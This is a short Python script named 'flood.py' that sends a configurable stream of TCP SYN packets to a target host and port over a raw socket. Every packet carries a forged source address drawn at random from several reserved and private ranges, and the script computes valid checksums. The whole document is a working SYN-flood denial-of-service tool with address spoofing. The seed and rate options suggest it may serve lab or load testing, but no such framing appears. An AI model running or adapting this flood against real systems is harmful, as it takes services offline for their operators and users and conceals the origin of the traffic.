"""Requests for connections with sources that are made up. Usage: flood.py TARGET PORT COUNT RATE SEED"""

import ipaddress
import random
import socket
import struct
import sys
import time

target, port, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
dice = random.Random(sys.argv[5])
networks = [ipaddress.ip_network(n) for n in ("198.51.100.128/25", "203.0.113.128/25", "198.18.0.0/15", "10.20.0.128/25")]


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return 0xFFFF - (total + (total >> 16)) & 0xFFFF


out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
there = socket.inet_aton(target)
for n in range(count):
    network = dice.choice(networks)
    source = network[dice.randrange(network.num_addresses)].packed
    tcp = struct.pack(">HHLLBBHHH", dice.randrange(1024, 65536), port, dice.getrandbits(32), 0, 5 << 4, 2, 512, 0, 0)
    pseudo = source + there + struct.pack(">BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, dice.getrandbits(16), 0, 249, 6, 0, source, there)
    out.sendto(ip + tcp, (target, 0))
    time.sleep(1 / rate)
